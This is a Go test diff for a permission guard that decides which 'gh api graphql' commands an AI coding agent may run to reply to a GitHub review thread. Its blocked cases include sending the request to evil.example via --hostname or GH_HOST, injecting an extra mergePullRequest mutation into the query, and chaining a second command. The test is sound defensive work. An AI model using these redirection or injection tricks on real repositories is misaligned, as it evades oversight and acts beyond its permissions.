@@ -1,6 +1,9 @@
 package guard
 
-import "testing"
+import (
+	"strings"
+	"testing"
+)
 
 func announcedSetting() Situation {
 	s := setting()
@@ -199,6 +202,37 @@ func TestAConfirmedPullRequestElsewhere(t *testing.T) {
 	} {
 		if v := s.Tool("mcp__github__create_pull_request", []byte(in)); v.Decision < Ask != through {
 			t.Errorf("%s: %+v", in, v)
+		}
+	}
+}
+
+// An answer in a review thread of GitHub is a mutation, and the only one.
+func TestAConfirmedAnswerInAThread(t *testing.T) {
+	const at = "/w/work/.claude/asterweave/artifacts/"
+	s := announcedSetting()
+	s.Writes[0].Target = "PRRT_1"
+	const query = `-f query='mutation($thread: ID!, $body: String!) { addPullRequestReviewThreadReply(input: {pullRequestReviewThreadId: $thread, body: $body}) { comment { url } } }'`
+	for _, attended := range []bool{true, false} {
+		s.Attended = attended
+		for command, through := range map[string]bool{
+			"gh api graphql " + query + " -f thread=PRRT_1 -F body=@" + at + "a1":                                                                                             true,
+			"gh api graphql " + strings.ReplaceAll(query, " { ", " {\n  ") + " -f thread=PRRT_1 -f body='fixed in abc'":                                                       true,
+			"gh api graphql " + query + " -f thread=PRRT_2 -F body=@" + at + "a1":                                                                                             false,
+			"gh api graphql " + query + " -f thread=PRRT_1 -F body=@" + at + "a2":                                                                                             false,
+			"gh api graphql " + query + " -f thread=PRRT_1 -f body=@" + at + "a1":                                                                                             false,
+			"gh api graphql " + query + " -F thread=PRRT_1 -F body=@" + at + "a1":                                                                                             false,
+			"gh api graphql " + query + " -f thread=PRRT_1 -f body='other'":                                                                                                   false,
+			"gh api graphql " + query + " -f thread=PRRT_1 -f body='fixed in abc' --hostname evil.example":                                                                    false,
+			"gh api graphql " + query + " -f thread=PRRT_1 -f thread=PRRT_1 -f body='fixed in abc'":                                                                           false,
+			"GH_HOST=evil.example gh api graphql " + query + " -f thread=PRRT_1 -f body='fixed in abc'":                                                                       false,
+			"gh api graphql " + strings.Replace(query, "ThreadReply(", "ThreadReplx(", 1) + " -f thread=PRRT_1 -f body='fixed in abc'":                                        false,
+			"gh api graphql " + strings.Replace(query, "{ url }", "{ url } } mergePullRequest(input: {}) { clientMutationId", 1) + " -f thread=PRRT_1 -f body='fixed in abc'": false,
+			"gh api graphql " + strings.Replace(query, "'mutation", "\"mutation", 1) + "\" -f thread=PRRT_1 -f body='fixed in abc'":                                           false,
+			"gh api graphql " + query + " -f thread=PRRT_1 -f body='fixed in abc'; gh api graphql " + query + " -f thread=PRRT_1 -f body='fixed in abc'":                      false,
+		} {
+			if v := s.Shell(command); v.Decision < Ask != through {
+				t.Errorf("%s: %+v", command, v)
+			}
 		}
 	}
 }
